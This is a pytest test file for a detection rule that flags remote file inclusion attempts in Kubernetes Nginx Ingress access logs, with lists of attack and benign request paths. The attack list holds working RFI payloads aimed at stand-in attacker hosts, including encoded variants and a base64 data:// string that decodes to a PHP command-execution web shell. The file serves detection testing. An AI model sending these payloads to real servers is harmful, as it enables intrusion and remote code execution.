"""Kubernetes Nginx Ingress RFI: what must raise risk and what must not."""

from __future__ import annotations

import pytest

from lambdas.detections.kubernetes import kubernetes_nginx_ingress_rfi as rfi
from lambdas.shared.settings import Settings
from tests.kubernetes.lines import access, run, wrapped

ATTACKS = [
    "/index.php?page=http://198.51.100.9/shell.txt",
    "/index.php?page=http://evil.example/shell.txt",
    "/index.php?lang=en&page=https://evil.example/x.php",
    "/index.php?PAGE=HTTP://EVIL.EXAMPLE/SHELL.TXT",
    "/view?tpl=https%3A%2F%2Fevil.example%2Fbackdoor.php",
    "/view?tpl=https%253A%252F%252Fevil.example%252Fbackdoor.php",
    "/view?tpl=//evil.example/backdoor.php",
    "/view?tpl=ftp://files.evil.example/payload.inc",
    "/view?tpl=\\x5C\\x5Cevil.example\\x5Cshare\\x5Cshell.php",
    "/view?tpl=data://text/plain;base64,PD9waHAgc3lzdGVtKCRfR0VUWydjJ10pOyA/Pg==",
    "/view?tpl=expect://id",
    "/view?tpl=php://input",
    "/login?next=http://198.51.100.9/login",
    "/login?url=https://evil.example/shell.txt?",
    "/login?return_to=ftp://evil.example/x",
    "/go?url=http://3232235777/x",
]

BENIGN = [
    "/metrics/probe?target=10.0.0.12:9100&module=http_2xx",
    "/downloads/agent-10.2.0.1/linux/amd64",
    "/api/hosts/10.0.0.12/status",
    "/status?v=1.2.3.4",
    "/login?next=../account",
    "/login?next=/dashboard",
    "/oauth/authorize?client_id=web&redirect_uri=https%3A%2F%2Fapp.example.com%2Fcallback",
    "/oauth/authorize?redirect_uri=http%3A%2F%2F127.0.0.1%3A8400%2F&client_id=cli",
    "/sso/logout?post_logout_redirect_uri=https://www.example.com/&state=abc",
    "/auth?return_to=https://shop.example.com/cart",
    "/search?q=https://github.com/org/repo",
    "/share?u=https%3A%2F%2Fblog.example.org%2Fposts%2F12",
    "/reports?from=2024-01-01T00:00:00Z&to=2024-01-31T23:59:59Z",
    "/graphql?variables=%7B%22id%22%3A12%7D",
    "/redirect?to=mailto:support@example.com",
    "/",
]


@pytest.mark.parametrize("target", ATTACKS)
def test_a_remote_inclusion_attempt_raises_risk_on_the_host(target: str) -> None:
    events = run(rfi, access(target))
    assert len(events) == 1
    assert events[0].risk_object == "default-webapp-80"
    assert events[0].risk_object_type == "host"


@pytest.mark.parametrize("target", BENIGN)
def test_an_ordinary_request_raises_nothing(target: str) -> None:
    assert run(rfi, access(target)) == ()


def test_a_url_to_a_trusted_host_or_its_subdomain_is_not_an_attack() -> None:
    settings = Settings(trusted_hosts=("example.com",))
    lines = [
        access("/img?src=https://cdn.example.com/a.png"),
        access("/img?src=http://example.com"),
    ]
    assert run(rfi, *lines, settings=settings) == ()
    assert len(run(rfi, access("/img?src=https://evil.example/a.png"), settings=settings)) == 1


def test_evidence_names_the_parameter_and_the_remote_host() -> None:
    evidence = run(rfi, access("/index.php?page=http://198.51.100.9/shell.txt"))[0].evidence
    assert evidence["parameter"] == "page"
    assert evidence["remote_host"] == "198.51.100.9"
    assert evidence["src_ip"] == "203.0.113.7"


def test_repeats_from_one_client_in_one_hour_are_counted_once() -> None:
    lines = [wrapped(access("/?page=http://198.51.100.9/x.txt"))] * 250
    events = run(rfi, *lines)
    assert [(event.count, event.risk_object) for event in events] == [
        (250, "ip-10-0-1-23.ec2.internal")
    ]
